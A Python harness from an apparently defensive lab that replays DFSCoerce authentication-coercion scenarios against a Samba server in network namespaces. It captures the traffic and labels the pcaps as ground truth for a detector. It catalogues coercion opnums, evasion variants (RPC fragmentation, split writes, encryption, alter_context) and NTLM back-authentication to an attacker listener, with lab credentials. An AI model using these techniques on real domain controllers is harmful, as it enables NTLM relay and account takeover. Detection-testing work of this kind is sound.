"""Run the lab's scenarios on the namespaces network.sh built, write captures and manifest.json.

  scenarios.py --out pcaps [--work pcaps/lab/work] [NAME ...]     (default: every scenario)

Each scenario: (re)start smbd in "dc" with its smb.conf, start tcpdump, run the traffic
(the attack client in "attacker", benign tools in "client"), stop the capture, then read the
capture back with tshark to place every request the client reported into its frame.
Entries of scenarios not run are kept from the existing manifest.
"""
from __future__ import annotations

import argparse
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import groundtruth

LAB = Path(__file__).resolve().parent
REPO = LAB.parent.parent
DC_V4, DC_V6, ATTACKER_V4, ATTACKER_V6, CLIENT_V4 = "10.0.0.10", "fd00::10", "10.0.0.66", "fd00::66", "10.0.0.5"
USER, PASSWORD, DOMAIN = "labuser", "Passw0rd!", "LAB"
MACHINE_ACCOUNT = "DC01$"           # the coerced DC authenticates as its machine account
MACHINE_PASSWORD = "MachinePassw0rd"
# A member server's machine account. The benign logon is not the dc's: the live tests replay every
# capture within seconds, and any encrypted session to the dc before DC01$ logs on is, by design,
# probable coercion.
MEMBER_ACCOUNT = "SRV01$"
HTTP_LISTENER_PORT = 8080           # the WebDAV listener of the HTTP back-authentication
BACK_AUTH_DELAY = 0.03              # Windows calls back tens of ms after the coercion call
SMALL_MTU = 300                     # attacker link MTU for the small-segments scenario (MSS 260)
LONG_LISTENER = "coerce-listener-" + "x" * 40 + ".attacker.lab.example"
SETTLE = 0.3                        # let the last ACKs and FINs reach the capture
BUFFERED_SETTLE = 2.0               # without --immediate-mode tcpdump hands over a ring block after 1 s
SHARE_MODE = 0o1777                 # like /tmp: labuser may create files on the share, not delete others'
DIALECT_NAMES = {"0x202": "SMB 2.0.2", "0x210": "SMB 2.1", "0x300": "SMB 3.0", "0x302": "SMB 3.0.2",
                 "0x311": "SMB 3.1.1", "NT LM 0.12": "SMB1 (NT LM 0.12)"}

SMB_CONF = """[global]
  netbios name = DC01
  workgroup = LAB
  server role = standalone
  host msdfs = yes
  private dir = {w}/private
  lock directory = {w}/lock
  state directory = {w}/state
  cache directory = {w}/cache
  pid directory = {w}/pid
  ncalrpc dir = {w}/ncalrpc
  log file = {w}/log/%m.log
  passdb backend = tdbsam:{w}/private/passdb.tdb
  smb ports = 445 139
  disable netbios = yes
  server min protocol = NT1
  server smb encrypt = {encrypt}
  load printers = no
  printing = bsd
  printcap name = /dev/null
[share]
  path = {w}/share
  read only = no
  msdfs root = yes
"""


@dataclass
class Scenario:
    name: str
    description: str
    client: list[str] = field(default_factory=list)   # dfscoerce_client.py options; empty: no attack
    benign: list[list[str]] = field(default_factory=list)  # commands run in "client"
    encrypt: str = "off"                 # smb.conf "server smb encrypt"
    transport: str = "smb"
    target: str = DC_V4
    forwarder: list[str] | None = None   # forwarder.py impairment options; None: plain bridge
    mirror_vlan: int | None = None       # capture the forwarder's 802.1Q mirror instead of dc eth0
    attacker_mtu: int | None = None
    midstream: bool = False
    back_auth: str = ""                  # "smb" or "http": the coerced DC authenticates back to the attacker
    benign_ns: str = "client"            # where the benign commands run
    file_server: bool = False            # impacket smbserver in "attacker" as a plain file server
    capture_ns: str = "dc"               # whose eth0 tcpdump listens on
    encrypted: bool = False              # benign traffic inside SMB3 encryption (manifest "encrypted")
    dialect: str = "SMB 3.1.1 (Samba client default)"   # benign captures' dialect, for the manifest
    listener: str = ""                   # ServerName sent; default: the attacker's own address
    made_by: str = ""

    @property
    def should_alert(self) -> bool:
        return bool(self.client)


def attack(*opts: str) -> list[str]:
    return list(opts)


SCENARIOS = [
    Scenario("dfscoerce-smb21", "impacket NetrDfsRemoveStdRoot (13) then NetrDfsAddStdRoot (12) over SMB 2.1",
             attack("--dialect", "2.1")),
    Scenario("dfscoerce-smb311-clear", "opnums 13, 12 over SMB 3.1.1, server encryption off",
             attack("--dialect", "3.1.1")),
    Scenario("dfscoerce-smb202", "opnums 13, 12 over SMB 2.0.2", attack("--dialect", "2.0.2")),
    Scenario("dfscoerce-smb1", "opnums 13, 12 over SMB1 (NT LM 0.12)", attack("--dialect", "smb1")),
    Scenario("dfscoerce-nbss139", "opnums 13, 12 over TCP 139 after a NetBIOS session request, SMB 2.1",
             attack("--dialect", "2.1", "--port", "139"), transport="nbss139"),
    Scenario("dfsnm-other-coercion", "opnums 14, 15, 20, 23, 24 in one session, SMB 2.1",
             attack("--dialect", "2.1", "--opnums", "14,15,20,23,24")),
    Scenario("dfscoerce-fragmented", "opnums 13, 12 with DCE/RPC max fragment 32 bytes and a long ServerName",
             attack("--dialect", "2.1", "--rpc-frag", "32"), listener=LONG_LISTENER),
    Scenario("dfscoerce-split-writes", "opnums 13, 12, each PDU written in two SMB2 WRITEs (64 bytes, then the rest)",
             attack("--dialect", "2.1", "--smb-write-size", "64")),
    Scenario("dfscoerce-rpc-integrity", "opnums 13, 12 with RPC NTLM auth, PKT_INTEGRITY (signed, stub clear)",
             attack("--dialect", "2.1", "--auth-level", "integrity")),
    Scenario("dfscoerce-rpc-privacy", "opnums 13, 12 with RPC NTLM auth, PKT_PRIVACY (sealed stub)",
             attack("--dialect", "2.1", "--auth-level", "privacy")),
    Scenario("dfscoerce-multi-context", "one bind with 3 contexts (2 random uuids, netdfs ctx 2), 13, 12",
             attack("--dialect", "2.1", "--extra-contexts", "2")),
    Scenario("dfscoerce-alter-context",
             "bind offering one random interface (Samba rejects it), alter_context onto netdfs (ctx 1), 13, 12",
             attack("--dialect", "2.1", "--alter-context")),
    Scenario("dfscoerce-smb3-encrypted",
             "opnums 13, 12, impacket's default negotiation against server smb encrypt = desired: "
             "SMB 3.1.1, AES-128-CCM, everything after session setup in transform headers",
             attack("--dialect", "default"), encrypt="desired"),
    Scenario("dfscoerce-ipv6", "opnums 13, 12 over IPv6 (fd00::66 -> fd00::10), SMB 2.1",
             attack("--dialect", "2.1"), target=DC_V6),
    Scenario("dfscoerce-vlan", "opnums 13, 12, SMB 2.1, captured on a SPAN copy tagged 802.1Q VLAN 100",
             attack("--dialect", "2.1"), forwarder=[], mirror_vlan=100),
    Scenario("dfscoerce-impaired",
             "opnums 13, 12, SMB 2.1, attacker MTU 300; forwarder drops 8%, duplicates 8%, reorders 10% "
             "of data segments (both ways), real TCP retransmits",
             attack("--dialect", "2.1", "--opnums", "13,12,13,12"),
             forwarder=["--drop", "0.08", "--dup", "0.08", "--reorder", "0.1", "--seed", "7"],
             attacker_mtu=SMALL_MTU),
    Scenario("dfscoerce-midstream",
             "capture starts after negotiate, session setup, tree connect, pipe open and bind; opnums 13, 12",
             attack("--dialect", "2.1"), midstream=True),
    Scenario("benign-rpcclient-dfs", "Samba rpcclient dfsversion, dfsenum, dfsgetinfo, dfsenumex (no coercion)",
             benign=[["rpcclient", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", DC_V4, "-c",
                      "dfsversion; dfsenum 1; dfsgetinfo \\\\DC01\\share DC01 share; dfsenumex 1"]]),
    Scenario("benign-smb-filecopy", "smbclient put/get of a 4 KB file; rpcclient netshareenum, lsaquery",
             benign=[["smbclient", f"//{DC_V4}/share", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "-c",
                      "put {work}/small.txt small.txt; get small.txt {work}/small.back"],
                     ["rpcclient", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", DC_V4, "-c", "netshareenum; lsaquery"]]),
    Scenario("coerced-auth-clear",
             "opnum 13 over SMB 2.1, then DC01$ authenticates back over SMB (NTLMSSP) to 10.0.0.66",
             attack("--dialect", "2.1", "--opnums", "13"), back_auth="smb"),
    Scenario("coerced-auth-encrypted",
             "opnum 13 inside encrypted SMB 3.1.1 (server smb encrypt = desired), then DC01$ authenticates back "
             "over SMB (NTLMSSP, clear) to 10.0.0.66",
             attack("--dialect", "default", "--opnums", "13"), encrypt="desired", back_auth="smb"),
    Scenario("coerced-auth-http",
             f"opnum 13 over SMB 2.1 naming a WebDAV listener ({ATTACKER_V4}@{HTTP_LISTENER_PORT}/x), then curl "
             f"in dc authenticates back as DC01$ with HTTP NTLM (PROPFIND) to a listener on {ATTACKER_V4}:"
             f"{HTTP_LISTENER_PORT}",
             attack("--dialect", "2.1", "--opnums", "13"), back_auth="http",
             listener=f"{ATTACKER_V4}@{HTTP_LISTENER_PORT}/x"),
    Scenario("benign-encrypted-smbclient",
             "smbclient -L (clear: SMB 2.1; a 3.x session is encrypted when the server desires it, whatever the "
             "client asks), then smbclient --client-protection=encrypt put/get of a 4 KB file "
             "(server smb encrypt = desired)",
             benign=[["smbclient", "-L", f"//{DC_V4}", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "-m", "SMB2_10"],
                     ["smbclient", f"//{DC_V4}/share", "-U", f"{DOMAIN}/{USER}%{PASSWORD}",
                      "--client-protection=encrypt", "-c",
                      "put {work}/small.txt small.txt; get small.txt {work}/small.back; ls"]],
             encrypt="desired", encrypted=True),
    Scenario("benign-encrypted-rpc",
             "smbclient -L (clear: SMB 2.1; rpcclient ignores -m); rpcclient --client-protection=encrypt srvsvc netshareenum, srvinfo, "
             "lsarpc lsaquery, lookupnames, samr enumdomusers; impacket (encrypts by itself) lsarpc "
             "LsarOpenPolicy2 + LsarQueryInformationPolicy2, srvsvc NetrShareEnum, samr SamrConnect",
             benign=[["smbclient", "-L", f"//{DC_V4}", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "-m", "SMB2_10"],
                     ["rpcclient", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "--client-protection=encrypt", DC_V4,
                      "-c", "netshareenum; srvinfo; lsaquery; lookupnames labuser; enumdomusers"],
                     ["{python}", "{lab}/benign_rpc_client.py", "--target", DC_V4]],
             encrypt="desired", encrypted=True),
    Scenario("benign-machine-auth",
             f"member server SRV01 ({CLIENT_V4}) authenticates with its machine account SRV01$ to its daily file "
             f"server (impacket smbserver in attacker, {ATTACKER_V4}): smbclient -L (srvsvc in clear) and ls; "
             f"captured on the member server's eth0, nothing inbound to it in any capture",
             benign=[["smbclient", "-L", f"//{ATTACKER_V4}", "-U", f"{DOMAIN}/{MEMBER_ACCOUNT}%{MACHINE_PASSWORD}",
                      "-m", "SMB3"],
                     ["smbclient", f"//{ATTACKER_V4}/share", "-U", f"{DOMAIN}/{MEMBER_ACCOUNT}%{MACHINE_PASSWORD}",
                      "-m", "SMB3", "-c", "ls"]],
             file_server=True, capture_ns="client", target=ATTACKER_V4,
             dialect="SMB 3.1.1 (impacket smbserver)"),
]


def sh(*cmd: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run(list(cmd), check=True, **kw)


def in_ns(ns: str, *cmd: str) -> list[str]:
    return ["ip", "netns", "exec", ns, *cmd]


class Samba:
    def __init__(self, work: Path):
        self.dir = work / "samba"
        self.proc: subprocess.Popen | None = None

    def start(self, encrypt: str) -> None:
        self.stop()
        for sub in ("private", "lock", "state", "cache", "pid", "ncalrpc", "share", "log"):
            (self.dir / sub).mkdir(parents=True, exist_ok=True)
        # smbd writes as the logged-on user: without this every put is STATUS_ACCESS_DENIED
        (self.dir / "share").chmod(SHARE_MODE)
        conf = self.dir / "smb.conf"
        conf.write_text(SMB_CONF.format(w=self.dir, encrypt=encrypt))
        if subprocess.run(["id", USER], capture_output=True).returncode:
            sh("useradd", "-M", "-s", "/usr/sbin/nologin", USER)
        sh("smbpasswd", "-c", str(conf), "-a", "-s", USER, input=f"{PASSWORD}\n{PASSWORD}\n",
           text=True, capture_output=True)
        log = open(self.dir / "log" / "smbd.out", "a")
        self.proc = subprocess.Popen(in_ns("dc", "smbd", "-s", str(conf), "--foreground", "--no-process-group",
                                           "--debug-stdout", "-d1"), stdout=log, stderr=log,
                                     # smbd signals its whole process group when it exits
                                     start_new_session=True)
        wait_listening("dc", 445)

    def stop(self) -> None:
        if self.proc is not None:
            self.proc.terminate()
            self.proc.wait(10)
            self.proc = None
        # smbd's on-demand RPC helpers (samba-dcerpcd, rpcd_*) outlive it; they run in "dc" only.
        for pid in subprocess.run(["ip", "netns", "pids", "dc"], capture_output=True, text=True).stdout.split():
            if Path(f"/proc/{pid}/comm").exists() and Path(f"/proc/{pid}/comm").read_text().strip() in (
                    "samba-dcerpcd", "rpcd_classic", "rpcd_lsad", "rpcd_epmapper", "rpcd_winreg",
                    "rpcd_fsrvp", "rpcd_mdssvc", "rpcd_spoolss", "smbd"):
                os.kill(int(pid), signal.SIGTERM)
        time.sleep(0.3)


def wait_listening(ns: str, port: int, timeout: float = 15) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        out = subprocess.run(in_ns(ns, "ss", "-Hltn", f"sport = :{port}"), capture_output=True, text=True).stdout
        if out.strip():
            return
        time.sleep(0.1)
    raise RuntimeError(f"nothing listens on {ns}:{port}")


class Capture:
    def __init__(self, ns: str, ifname: str, path: Path, bpf: str, buffer_kib: int | None = None):
        """buffer_kib: a big kernel buffer, written in blocks (bulk rates); else each packet at once."""
        self.path = path
        flush = ["-B", str(buffer_kib)] if buffer_kib else ["-U", "--immediate-mode"]
        self.settle = BUFFERED_SETTLE if buffer_kib else SETTLE
        self.proc = subprocess.Popen(in_ns(ns, "tcpdump", "-n", *flush, "-s", "0",
                                           "-i", ifname, "-w", str(path), bpf),
                                     stderr=subprocess.PIPE, text=True)
        line = self.proc.stderr.readline()           # "listening on ..." once the socket is live
        if "listening" not in line:
            raise RuntimeError(f"tcpdump: {line}")

    def stop(self) -> str:
        """Stop the capture; returns tcpdump's closing counts (captured, dropped by kernel)."""
        time.sleep(self.settle)
        self.proc.send_signal(signal.SIGINT)
        summary = self.proc.communicate(timeout=30)[1]
        return "; ".join(line for line in summary.splitlines() if "packets" in line)


class Forwarder:
    """Put the attacker's bridge port behind forwarder.py (see network.sh)."""

    def __init__(self, opts: list[str], mirror_vlan: int | None):
        sh("ip", "-n", "wire", "link", "set", "w-att", "nomaster")
        extra = ["--mirror", "w-mon0", "--vlan", str(mirror_vlan)] if mirror_vlan else []
        self.proc = subprocess.Popen(in_ns("wire", sys.executable, str(LAB / "forwarder.py"), "w-att", "w-fwd",
                                           *opts, *extra))
        time.sleep(0.5)

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)
        sh("ip", "-n", "wire", "link", "set", "w-att", "master", "br0")


def set_attacker_mtu(mtu: int) -> None:
    sh("ip", "-n", "attacker", "link", "set", "eth0", "mtu", str(mtu))
    sh("ip", "-n", "wire", "link", "set", "w-att", "mtu", str(mtu))


class SmbListener:
    """impacket's smbserver in a namespace: the coercion listener in "attacker", or a file server."""

    def __init__(self, work: Path, ns: str = "attacker"):
        share = work / f"{ns}-share"
        share.mkdir(parents=True, exist_ok=True)
        smbserver = Path(sys.executable).parent / "smbserver.py"
        self.log = open(work / f"smbserver-{ns}.log", "w")
        self.proc = subprocess.Popen(in_ns(ns, sys.executable, str(smbserver), "-smb2support",
                                           "share", str(share)), stdout=self.log, stderr=self.log)
        wait_listening(ns, 445)

    def authenticate_back(self) -> None:
        """What the coerced DC does: connect to \\\\<listener> with its machine account."""
        subprocess.run(in_ns("dc", "smbclient", f"//{ATTACKER_V4}/share", "-U",
                             f"{DOMAIN}/{MACHINE_ACCOUNT}%{MACHINE_PASSWORD}", "-m", "SMB3", "-c", "ls"),
                       capture_output=True, timeout=30)

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)


class HttpListener:
    """ntlm_http_listener.py in "attacker": a WebDAV listener asking for NTLM."""

    def __init__(self, work: Path):
        self.log = open(work / "http-listener.log", "w")
        self.proc = subprocess.Popen(in_ns("attacker", sys.executable, str(LAB / "ntlm_http_listener.py"),
                                           "--port", str(HTTP_LISTENER_PORT)), stdout=self.log, stderr=self.log)
        wait_listening("attacker", HTTP_LISTENER_PORT)

    def authenticate_back(self) -> None:
        """What a coerced DC's WebClient does: PROPFIND with NTLM as its machine account."""
        subprocess.run(in_ns("dc", "curl", "-s", "-o", "/dev/null", "--ntlm", "-u",
                             f"{DOMAIN}\\{MACHINE_ACCOUNT}:{MACHINE_PASSWORD}", "-X", "PROPFIND",
                             f"http://{ATTACKER_V4}:{HTTP_LISTENER_PORT}/x"), capture_output=True, timeout=30)

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)


def read_calls(proc: subprocess.Popen, name: str, back_auth) -> list[dict]:
    """The attack client's JSON lines, one per request sent; after the first, the coerced server
    authenticates back (``back_auth.authenticate_back()``, BACK_AUTH_DELAY later) when asked to."""
    calls = []
    for line in proc.stdout:
        calls.append(json.loads(line))
        if back_auth is not None and len(calls) == 1:
            time.sleep(BACK_AUTH_DELAY)
            back_auth.authenticate_back()
    if proc.wait(60):
        raise RuntimeError(f"{name}: client failed")
    return calls


def run_attack(sc: Scenario, work: Path, out: Path, back_auth: SmbListener | HttpListener | None) -> tuple[list[dict], Path]:
    listener = sc.listener or (ATTACKER_V6 if sc.target == DC_V6 else ATTACKER_V4)
    cmd = [sys.executable, str(LAB / "dfscoerce_client.py"), "--target", sc.target, "--listener", listener,
           *sc.client]
    pause = work / "midstream"
    if sc.midstream:
        shutil.rmtree(pause, ignore_errors=True)
        pause.mkdir()
        cmd += ["--pause-after-bind", str(pause)]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    capture = None if sc.midstream else start_capture(sc, out)
    try:
        proc = subprocess.Popen(in_ns("attacker", *cmd), stdout=subprocess.PIPE, text=True, env=env)
        if sc.midstream:
            deadline = time.time() + 30
            while not (pause / "ready").exists():
                if time.time() > deadline or proc.poll() is not None:
                    raise RuntimeError("midstream client never bound")
                time.sleep(0.05)
            capture = start_capture(sc, out)
            (pause / "go").touch()
        calls = read_calls(proc, sc.name, back_auth)
    finally:
        if capture is not None:
            capture.stop()
    return calls, capture.path


def start_capture(sc: Scenario, out: Path) -> Capture:
    path = out / f"{sc.name}.pcap"
    if sc.mirror_vlan:
        return Capture("wire", "w-mon1", path, "vlan and tcp")
    return Capture(sc.capture_ns, "eth0", path, "tcp")


def run_benign(sc: Scenario, work: Path, out: Path) -> Path:
    (work / "small.txt").write_bytes(bytes(range(256)) * 16)
    capture = start_capture(sc, out)
    try:
        for cmd in sc.benign:
            # exit status ignored: rpcclient fails a command Samba refuses, the traffic is what counts
            subprocess.run(in_ns(sc.benign_ns, *[c.format(work=work, python=sys.executable, lab=LAB) for c in cmd]),
                           capture_output=True, timeout=60, env={**os.environ, "PYTHONPATH": str(REPO)})
    finally:
        capture.stop()
    return capture.path


def manifest_entry(sc: Scenario, pcap: Path, calls: list[dict]) -> dict:
    entry = {
        "description": sc.description,
        "made_by": sc.made_by or f"pcaps/lab/build-all {sc.name}",
        "transport": sc.transport,
        "should_alert": sc.should_alert,
        "agent_hostname": "DC01",
        "server_ip": sc.target,
    }
    if sc.client:
        located = groundtruth.locate(str(pcap), calls)
        entry["dialect"] = DIALECT_NAMES[calls[0]["dialect"]]
        entry["encrypted"] = calls[0]["smb_encrypted"]
        entry["calls"] = [{k: c[k] for k in ("interface_uuid", "opnum", "function", "args", "decodable", "sealed",
                                             "client_ip", "client_port", "server_ip", "server_port", "ts", "frame")}
                          for c in located]
    else:
        entry["dialect"] = sc.dialect
        entry["encrypted"] = sc.encrypted
        entry["calls"] = []
        entry["observed_requests"] = groundtruth.observed_calls(str(pcap))
    if sc.back_auth:
        entry["back_auth"] = [a for a in groundtruth.ntlm_authentications(str(pcap))
                              if a["client_ip"] == DC_V4 and a["server_ip"] == ATTACKER_V4]
    if sc.midstream:
        entry["midstream"] = "negotiate, session setup, tree connect, pipe open and bind are not in the capture"
    return entry


def run(sc: Scenario, work: Path, out: Path, samba: Samba) -> dict:
    samba.start(sc.encrypt)
    forwarder = Forwarder(sc.forwarder, sc.mirror_vlan) if sc.forwarder is not None else None
    if sc.attacker_mtu:
        set_attacker_mtu(sc.attacker_mtu)
    back_auth = {"smb": SmbListener, "http": HttpListener}[sc.back_auth](work) if sc.back_auth else None
    file_server = SmbListener(work) if sc.file_server else None
    try:
        if sc.client:
            calls, pcap = run_attack(sc, work, out, back_auth)
        else:
            calls, pcap = [], run_benign(sc, work, out)
    finally:
        if back_auth:
            back_auth.stop()
        if file_server:
            file_server.stop()
        if sc.attacker_mtu:
            set_attacker_mtu(1500)
        if forwarder:
            forwarder.stop()
    return manifest_entry(sc, pcap, calls)


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--out", type=Path, default=REPO / "pcaps")
    p.add_argument("--work", type=Path, default=LAB / "work")
    p.add_argument("names", nargs="*", help="scenario names (default: all)")
    opts = p.parse_args()
    chosen = [s for s in SCENARIOS if not opts.names or s.name in opts.names]
    unknown = set(opts.names) - {s.name for s in SCENARIOS}
    if unknown:
        p.error(f"unknown scenarios: {', '.join(sorted(unknown))}")
    manifest_path = opts.out / "manifest.json"
    manifest = json.loads(manifest_path.read_text()) if manifest_path.exists() else {"captures": {}}
    samba = Samba(opts.work)
    try:
        for sc in chosen:
            started = time.time()
            manifest["captures"][f"{sc.name}.pcap"] = run(sc, opts.work, opts.out, samba)
            print(f"{sc.name}: {len(manifest['captures'][sc.name + '.pcap']['calls'])} calls, "
                  f"{time.time() - started:.1f}s", flush=True)
            manifest_path.write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    finally:
        samba.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
